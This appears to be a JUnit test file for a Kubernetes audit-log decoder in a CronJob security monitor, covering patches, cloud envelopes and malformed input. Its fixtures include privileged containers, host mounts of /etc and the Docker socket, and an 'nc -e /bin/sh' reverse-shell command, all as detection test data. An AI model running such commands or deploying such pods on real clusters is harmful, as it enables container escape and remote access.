package dev.cronsentinel.ingest;

import static dev.cronsentinel.testing.TestData.decode;
import static org.assertj.core.api.Assertions.assertThat;

import dev.cronsentinel.config.DecoderConfig;
import dev.cronsentinel.model.ContainerSpec;
import dev.cronsentinel.model.DeadLetter;
import dev.cronsentinel.model.PodTemplate;
import dev.cronsentinel.model.WorkloadEvent;
import dev.cronsentinel.testing.TestData;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

class AuditDecoderTest {
    private static final String HEAD = "{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"level\":\"RequestResponse\","
            + "\"auditID\":\"id-1\",\"stage\":\"ResponseComplete\",";
    private static final String WHO = "\"user\":{\"username\":\"alice\",\"groups\":[\"dev\"]},\"sourceIPs\":[\"10.1.1.1\"],\"userAgent\":\"kubectl/v1.30\",";
    private static final String WHEN = "\"requestReceivedTimestamp\":\"2026-11-20T10:00:00.000000Z\",\"stageTimestamp\":\"2026-11-20T10:00:00.010000Z\"";

    static String event(String verb, String objectRef, String bodies) {
        return HEAD + "\"verb\":\"" + verb + "\"," + WHO + "\"objectRef\":" + objectRef + ","
                + "\"responseStatus\":{\"metadata\":{},\"code\":201}," + bodies + (bodies.isEmpty() ? "" : ",") + WHEN + "}";
    }

    static final String CJ_REF = "{\"resource\":\"cronjobs\",\"namespace\":\"ns\",\"name\":\"cj\",\"apiGroup\":\"batch\",\"apiVersion\":\"v1\"}";

    static String cronJobBody(String podSpec) {
        return "\"requestObject\":{\"kind\":\"CronJob\",\"metadata\":{\"name\":\"cj\"},\"spec\":{\"schedule\":\"0 * * * *\",\"timeZone\":\"Europe/Paris\","
                + "\"jobTemplate\":{\"spec\":{\"template\":{\"spec\":" + podSpec + "}}}}}";
    }

    private static WorkloadEvent single(TestData.Decoded d) {
        assertThat(d.deadLetters).as("dead letters").isEmpty();
        assertThat(d.events).hasSize(1);
        return d.events.get(0);
    }

    @Test
    void sampleLogDecodesEveryRelevantEventAndDeadLettersTheBrokenLine() {
        TestData.Decoded d = TestData.decodeFile(TestData.projectRoot().resolve("samples/audit.log"));
        assertThat(d.events).extracting(WorkloadEvent::name).containsExactlyInAnyOrder(
                "metrics-sync", "node-debug", "registry-cleanup", "cache-warmer", "report-builder", "pg-backup",
                "ledger-export", "miner", "hostnet-probe",
                "metrics-sync-29919430", "metrics-sync-29919430-x7k2p", "node-exporter-sync-29919431", "node-exporter-sync-29919431-x7k2p");
        assertThat(d.deadLetters).singleElement().satisfies(dl -> {
            assertThat(dl.reason()).isEqualTo("malformed-json");
            assertThat(dl.position()).isEqualTo(34);
            assertThat(new String(dl.payload(), StandardCharsets.UTF_8)).contains("broken-line");
        });
        assertThat(d.filtered).contains("verb", "resource", "stage", "subresource");
    }

    @Test
    void cronJobCreateIsFlattenedWithTemplateScheduleAndActor() {
        WorkloadEvent e = single(decode(event("create", CJ_REF, cronJobBody(
                "{\"hostNetwork\":true,\"containers\":[{\"name\":\"a\",\"image\":\"alpine\",\"command\":[\"/bin/sh\",\"-c\"],\"args\":[\"id\"],"
                        + "\"securityContext\":{\"privileged\":true,\"capabilities\":{\"add\":[\"SYS_ADMIN\"]}}}],"
                        + "\"initContainers\":[{\"name\":\"i\",\"image\":\"busybox\"}],\"ephemeralContainers\":[{\"name\":\"e\",\"image\":\"kali\"}],"
                        + "\"volumes\":[{\"name\":\"h\",\"hostPath\":{\"path\":\"/etc\"}},{\"name\":\"c\",\"configMap\":{\"name\":\"x\"}}]}"))));
        assertThat(e.auditId()).isEqualTo("id-1");
        assertThat(e.username()).isEqualTo("alice");
        assertThat(e.groups()).containsExactly("dev");
        assertThat(e.sourceIp()).isEqualTo("10.1.1.1");
        assertThat(e.namespace()).isEqualTo("ns");
        assertThat(e.name()).isEqualTo("cj");
        assertThat(e.schedule()).isEqualTo("0 * * * *");
        assertThat(e.timeZone()).isEqualTo("Europe/Paris");
        assertThat(e.timestamp()).isEqualTo("2026-11-20T10:00:00.010000Z");
        assertThat(e.eventTime()).isEqualTo(java.time.Instant.parse("2026-11-20T10:00:00.010Z").toEpochMilli());
        PodTemplate t = e.templates().get(0);
        assertThat(t.path()).isEqualTo("requestObject.spec.jobTemplate.spec.template.spec");
        assertThat(t.hostNetwork()).isTrue();
        assertThat(t.containers()).extracting(ContainerSpec::path).containsExactly(
                t.path() + ".containers[0]", t.path() + ".initContainers[0]", t.path() + ".ephemeralContainers[0]");
        ContainerSpec c = t.containers().get(0);
        assertThat(c.command()).containsExactly("/bin/sh", "-c");
        assertThat(c.args()).containsExactly("id");
        assertThat(c.privileged()).isTrue();
        assertThat(c.capabilitiesAdd()).containsExactly("SYS_ADMIN");
        assertThat(t.volumes()).extracting(v -> v.hostPath()).containsExactly("/etc", null);
    }

    @Test
    void podNameComesFromTheResponseBecauseObjectRefHasNone() {
        String ref = "{\"resource\":\"pods\",\"namespace\":\"ns\",\"apiVersion\":\"v1\"}";
        String bodies = "\"requestObject\":{\"metadata\":{\"generateName\":\"cj-29000000-\",\"labels\":{\"job-name\":\"cj-29000000\"},"
                + "\"ownerReferences\":[{\"kind\":\"Job\",\"name\":\"cj-29000000\",\"uid\":\"u-job\",\"controller\":true}]},\"spec\":{\"containers\":[]}},"
                + "\"responseObject\":{\"metadata\":{\"name\":\"cj-29000000-x7k2p\",\"uid\":\"u-pod\",\"labels\":{\"job-name\":\"cj-29000000\"},"
                + "\"ownerReferences\":[{\"kind\":\"Job\",\"name\":\"cj-29000000\",\"uid\":\"u-job\",\"controller\":true}]}}";
        String json = event("create", ref, bodies).replace("\"alice\"", "\"system:serviceaccount:kube-system:job-controller\"");
        WorkloadEvent e = single(decode(json));
        assertThat(e.name()).isEqualTo("cj-29000000-x7k2p");
        assertThat(e.uid()).isEqualTo("u-pod");
        assertThat(e.ownerKind()).isEqualTo("Job");
        assertThat(e.ownerName()).isEqualTo("cj-29000000");
        assertThat(e.ownerUid()).isEqualTo("u-job");
        assertThat(e.jobNameLabel()).isEqualTo("cj-29000000");

        // At Request level only generateName is known.
        WorkloadEvent req = single(decode(event("create", ref, bodies.substring(0, bodies.indexOf(",\"responseObject\"")))));
        assertThat(req.name()).isEqualTo("cj-29000000-");
    }

    @Test
    void jsonPatchOpsAreRebuiltIntoThePartialObjectTheyWrite() {
        String patch = "\"requestObject\":[{\"op\":\"replace\",\"path\":\"/spec/jobTemplate/spec/template/spec/containers/0/image\",\"value\":\"kalilinux/kali-rolling\"},"
                + "{\"op\":\"add\",\"path\":\"/spec/jobTemplate/spec/template/spec/containers/0/securityContext\",\"value\":{\"privileged\":true}},"
                + "{\"op\":\"remove\",\"path\":\"/spec/suspend\"},"
                + "{\"op\":\"add\",\"path\":\"/spec/jobTemplate/spec/template/spec/volumes/-\",\"value\":{\"name\":\"s\",\"hostPath\":{\"path\":\"/var/run/docker.sock\"}}}]";
        WorkloadEvent e = single(decode(event("patch", CJ_REF, patch)));
        PodTemplate t = e.templates().get(0);
        assertThat(t.source()).isEqualTo("json-patch");
        assertThat(t.containers().get(0).image()).isEqualTo("kalilinux/kali-rolling");
        assertThat(t.containers().get(0).privileged()).isTrue();
        assertThat(t.volumes()).extracting(v -> v.hostPath()).containsExactly("/var/run/docker.sock");
    }

    @Test
    void mergePatchAndLastAppliedManifestAreBothRead() {
        String manifest = "{\\\"apiVersion\\\":\\\"batch/v1\\\",\\\"kind\\\":\\\"CronJob\\\",\\\"metadata\\\":{\\\"name\\\":\\\"cj\\\"},\\\"spec\\\":{\\\"schedule\\\":\\\"* * * * *\\\","
                + "\\\"jobTemplate\\\":{\\\"spec\\\":{\\\"template\\\":{\\\"spec\\\":{\\\"hostPID\\\":true,\\\"containers\\\":[{\\\"name\\\":\\\"a\\\",\\\"image\\\":\\\"busybox\\\"}]}}}}}}";
        String patch = "\"requestObject\":{\"metadata\":{\"annotations\":{\"kubectl.kubernetes.io/last-applied-configuration\":\"" + manifest + "\"}},"
                + "\"spec\":{\"jobTemplate\":{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"a\",\"command\":[\"nc\",\"-e\",\"/bin/sh\",\"h\",\"1\"]}]}}}}}}";
        WorkloadEvent e = single(decode(event("patch", CJ_REF, patch)));
        assertThat(e.templates()).extracting(PodTemplate::source).containsExactly("patch", "last-applied-configuration");
        assertThat(e.templates().get(0).containers().get(0).command()).startsWith("nc");
        assertThat(e.templates().get(1).hostPID()).isTrue();
    }

    @Test
    void refusedRequestsAreAttemptsAndMetadataLevelEventsAreBodiless() {
        String refused = event("create", CJ_REF, "").replace("\"code\":201", "\"code\":403");
        WorkloadEvent r = single(decode(refused));
        assertThat(r.refused()).isTrue();
        String forbid = event("create", CJ_REF, "\"annotations\":{\"authorization.k8s.io/decision\":\"forbid\"}");
        assertThat(single(decode(forbid)).refused()).isTrue();
        WorkloadEvent meta = single(decode(event("create", CJ_REF, "").replace("\"RequestResponse\"", "\"Metadata\"")));
        assertThat(meta.bodiless()).isTrue();
        assertThat(meta.templates()).isEmpty();
        String truncated = event("create", CJ_REF, "\"annotations\":{\"audit.k8s.io/truncated\":\"true\"}");
        assertThat(single(decode(truncated)).bodiless()).isTrue();
    }

    @Test
    void controllerHousekeepingIsFilteredButControllerSpawnsAreKept() {
        String status = event("patch", "{\"resource\":\"jobs\",\"namespace\":\"ns\",\"name\":\"cj-1\"}", "\"requestObject\":{\"metadata\":{\"finalizers\":null}}")
                .replace("\"alice\"", "\"system:serviceaccount:kube-system:job-controller\"");
        TestData.Decoded d = decode(status);
        assertThat(d.events).isEmpty();
        assertThat(d.filtered).containsExactly("controller-housekeeping");

        String spawn = event("create", "{\"resource\":\"jobs\",\"namespace\":\"ns\"}", "\"requestObject\":{\"metadata\":{\"name\":\"cj-29000000\"},\"spec\":{\"template\":{\"spec\":{\"containers\":[]}}}}")
                .replace("\"alice\"", "\"system:serviceaccount:kube-system:cronjob-controller\"");
        assertThat(single(decode(spawn)).name()).isEqualTo("cj-29000000");

        String replicaSetPod = event("create", "{\"resource\":\"pods\",\"namespace\":\"ns\"}", "")
                .replace("\"alice\"", "\"system:serviceaccount:kube-system:replicaset-controller\"");
        assertThat(decode(replicaSetPod).filtered).containsExactly("out-of-scope-pod-creator");
    }

    @Test
    void eventListItemsAreDecodedOneByOneSoABadItemCostsOnlyItself() {
        String good = event("create", CJ_REF, cronJobBody("{\"containers\":[{\"name\":\"a\",\"image\":\"alpine\"}]}"));
        String bad = event("create", "{\"resource\":\"jobs\",\"namespace\":\"ns\",\"name\":\"j\"}", "\"requestObject\":{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"command\":42}]}}}}");
        String noise = "{\"verb\":\"get\",\"objectRef\":{\"resource\":\"pods\"}}";
        TestData.Decoded d = decode("{\"kind\":\"EventList\",\"apiVersion\":\"audit.k8s.io/v1\",\"metadata\":{},\"items\":[" + good + "," + bad + "," + noise + ",7]}");
        assertThat(d.events).extracting(WorkloadEvent::name).containsExactly("cj");
        assertThat(d.deadLetters).extracting(DeadLetter::reason).containsExactly("wrong-type", "not-an-object");
        assertThat(d.deadLetters.get(0).detail()).contains("containers[0].command");
        assertThat(new String(d.deadLetters.get(0).payload(), StandardCharsets.UTF_8)).isEqualTo(bad);
        assertThat(d.filtered).containsExactly("verb");
    }

    @Test
    void aksEnvelopesAreUnwrappedWhetherTheEventIsAnObjectOrAString() {
        String ev = event("create", CJ_REF, cronJobBody("{\"containers\":[{\"name\":\"a\",\"image\":\"alpine\"}]}"));
        TestData.Decoded asObject = decode("{\"category\":\"kube-audit\",\"properties\":{\"containerID\":\"c\",\"log\":" + ev + "}}");
        assertThat(single(asObject).name()).isEqualTo("cj");
        String escaped = ev.replace("\\", "\\\\").replace("\"", "\\\"");
        TestData.Decoded asString = decode("{\"category\":\"kube-audit\",\"properties\":{\"log\":\"" + escaped + "\",\"stream\":\"stdout\"}}");
        assertThat(single(asString).name()).isEqualTo("cj");
    }

    @Test
    void gkeRecordsAboutWorkloadsAreMappedOrDeadLetteredNeverDropped() {
        // Mapped since issue 18 (GkeAuditLogTest); an entry that cannot be placed in time is still visible.
        TestData.Decoded d = decode("{\"protoPayload\":{\"@type\":\"type.googleapis.com/google.cloud.audit.AuditLog\",\"methodName\":\"io.k8s.batch.v1.cronjobs.create\"}}");
        assertThat(d.deadLetters).extracting(DeadLetter::reason).containsExactly("missing-timestamp");
        TestData.Decoded health = decode("{\"protoPayload\":{\"methodName\":\"io.k8s.get\"}}");
        assertThat(health.filtered).containsExactly("gke-method");
    }

    @Test
    void hostileInputIsDeadLetteredWithAClearReason() {
        String cj = event("create", CJ_REF, cronJobBody("{\"containers\":[]}"));
        assertThat(reason(event("create", "\"cronjobs\"", ""))).isEqualTo("wrong-type");
        assertThat(reason(cj.replace("\"verb\":\"create\"", "\"verb\":\"create\",\"verb\":\"create\""))).isEqualTo("duplicate-key");
        assertThat(reason(cj.replace("2026-11-20T10:00:00.010000Z", "yesterday"))).isEqualTo("bad-timestamp");
        assertThat(reason(cj + "{}")).isEqualTo("malformed-json");
        byte[] invalidUtf8 = cj.replace("\"cj\"", "\"c\u00e9\"").getBytes(StandardCharsets.UTF_8);
        for (int i = 0; i < invalidUtf8.length; i++) {
            if (invalidUtf8[i] == (byte) 0xC3) {
                invalidUtf8[i + 1] = 0x41; // broken continuation byte
            }
        }
        assertThat(decode(DecoderConfig.defaults(), invalidUtf8).deadLetters).extracting(DeadLetter::reason).containsExactly("malformed-json");
        String deep = event("create", CJ_REF, "\"annotations\":{\"x\":" + "[".repeat(200) + "]".repeat(200) + "}");
        assertThat(reason(deep)).isIn("limit-exceeded", "malformed-json");
        assertThat(reason("")).isEqualTo("empty-record");
        assertThat(reason("[{\"verb\":\"create\"}]")).isEqualTo("malformed-json");
    }

    @Test
    void oversizedEventsAreDeadLetteredWithABoundedPrefixAndTheirTrueLength() {
        DecoderConfig small = new DecoderConfig(1 << 20, 4096, 64, 1 << 20, 100, DecoderConfig.DEFAULT_CONTROLLERS, DecoderConfig.DEFAULT_OUT_OF_SCOPE_POD_CREATORS);
        String big = event("create", CJ_REF, cronJobBody("{\"containers\":[{\"name\":\"a\",\"image\":\"alpine\",\"args\":[\"" + "A".repeat(10_000) + "\"]}]}"));
        TestData.Decoded d = decode(small, big.getBytes(StandardCharsets.UTF_8));
        DeadLetter dl = d.deadLetters.get(0);
        assertThat(dl.reason()).isEqualTo("oversized");
        assertThat(dl.payload()).hasSize(100);
        assertThat(dl.payloadLength()).isEqualTo(big.length());
        // An irrelevant oversized event is still just irrelevant: the size limit applies to what is parsed.
        String bigNoise = "{\"verb\":\"get\",\"x\":\"" + "B".repeat(10_000) + "\"}";
        assertThat(decode(small, bigNoise.getBytes(StandardCharsets.UTF_8)).filtered).containsExactly("verb");
    }

    private static String reason(String json) {
        List<DeadLetter> dl = decode(json).deadLetters;
        assertThat(dl).as("dead letters for " + json.substring(0, Math.min(json.length(), 120))).hasSize(1);
        return dl.get(0).reason();
    }
}
